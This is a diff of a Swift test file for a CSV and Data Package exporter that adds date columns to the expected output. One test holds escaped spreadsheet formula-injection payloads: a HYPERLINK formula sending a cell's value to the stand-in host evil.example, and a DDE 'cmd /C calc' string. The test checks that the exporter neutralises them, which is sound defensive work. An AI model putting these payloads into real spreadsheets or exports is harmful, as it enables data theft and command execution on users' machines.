@@ -321,7 +321,7 @@ let bodies = [
         let links = try #require(data.tables.first { $0.name == "proyectos-socios" })
         #expect(TabularData.csv(links) == "proyectos_id,socios_id\r\np1,a\r\np1,b\r\n")
         // The entries table keeps the joined ids for spreadsheets.
-        #expect(TabularData.csv(data.tables[0]).contains(",a;b\r\n"))
+        #expect(TabularData.csv(data.tables[0]).contains(",a;b,2022-04,\r\n"))
         let resource = try #require(data.dataPackage()["resources"]?.array?.first { $0["name"] == "proyectos-socios" })
         #expect(resource["schema"]?["primaryKey"] == ["proyectos_id", "socios_id"])
         #expect(
@@ -350,12 +350,12 @@ let bodies = [
                 "datos/socios.csv",
             ])
         #expect(
-            TabularData.csv(tables[0]) == "id,title,estado,avance,socio,socios\r\n" + "p2,Dos,parado,,,\r\n"
-                + "p1,\"Uno \"\"con\"\" comillas\",activo,40,a,a;b\r\n")
+            TabularData.csv(tables[0]) == "id,title,estado,avance,socio,socios,data_date,file_edited\r\n"
+                + "p2,Dos,parado,,,,2023,\r\n" + "p1,\"Uno \"\"con\"\" comillas\",activo,40,a,a;b,2022-04,\r\n")
         #expect(
             TabularData.csv(tables[2]).hasPrefix(
                 "proyectos_id,n,fecha,estado,nota\r\np2,1,2023,,\r\np1,1,2021-01-05,parado,\"Primera\nlínea\"\r\n"))
-        #expect(TabularData.csv(tables[3]).contains("a,\"Socio, A\",\r\n"))
+        #expect(TabularData.csv(tables[3]).contains("a,\"Socio, A\",,,\r\n"))
     }
 
     @Test func theDataPackageDeclaresTypesAndForeignKeys() throws {
@@ -461,14 +461,17 @@ let bodies = [
         let data = TabularData(site: try makeSite(Self.files))
         let tables = data.tables
         #expect(
-            TabularData.csv(tables[0]) == "id,title,sigla,fuente,saldo,cuenta,temas\r\n"
+            TabularData.csv(tables[0]) == "id,title,sigla,fuente,saldo,cuenta,temas,data_date,file_edited\r\n"
                 + "a,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,'+1+1,"
-                + "-12.5,-3,'-2+3;normal\r\n"
-                + "b,B,a-b,1-1,,,\r\n")
+                + "-12.5,-3,'-2+3;normal,2024-05,\r\n"
+                + "b,B,a-b,1-1,,,,,\r\n")
         #expect(TabularData.csv(tables[1]) == "socios_id,n,fecha,nota\r\na,1,2024-05,'\tcmd\r\n")
         // The Data Package's types are the same: the quote is part of a string's value.
         let fields = try #require(data.dataPackage()["resources"]?.array?.first?["schema"]?["fields"]?.array)
-        #expect(fields.map { $0["type"] } == ["string", "string", "string", "string", "number", "integer", "string"])
+        #expect(
+            fields.map { $0["type"] } == [
+                "string", "string", "string", "string", "number", "integer", "string", "string", "string",
+            ])
     }
 
     @Test(arguments: [
